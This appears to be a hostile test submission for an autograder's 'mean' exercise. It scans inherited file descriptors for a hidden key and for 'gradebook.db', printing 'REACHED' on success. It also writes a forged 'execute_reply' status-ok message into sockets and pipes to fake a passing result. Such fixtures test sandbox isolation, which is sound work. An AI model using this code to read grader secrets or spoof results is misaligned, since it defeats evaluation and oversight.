"""
what = "Reads, fills with rubbish, and takes over every open file, socket and pipe it finds."
[verdicts]
test_mean = ["failed", "crashed", "error in your code", "out of time"]
test_mean_hidden = ["failed", "crashed", "error in your code", "out of time"]
"""
# %% [exercises] mean
import os, re, socket, stat

wanted = re.compile(b"hidden-" + b"key-[0-9a-f]{24}")

def meddle():
    for handle in range(3, 300):
        try:
            kind = os.fstat(handle).st_mode
            path = os.readlink(f"/proc/self/fd/{handle}")
        except OSError:
            continue
        if stat.S_ISREG(kind):
            try:
                if wanted.search(os.pread(handle, 1 << 24, 0)):
                    print("reached".upper(), path)
            except OSError:
                pass
        if stat.S_ISDIR(kind):
            try:
                os.stat("gradebook.db", dir_fd=handle)
                print("reached".upper(), path)
            except OSError:
                pass
        if stat.S_ISSOCK(kind) or stat.S_ISFIFO(kind):
            os.set_blocking(handle, False)
            try:
                os.write(handle, b'{"msg_type": "execute_reply", "content": {"status": "ok"}}' + b"\n" + b"\0" * 40)
            except OSError:
                pass

meddle()

def mean(values):
    meddle()
    return 0
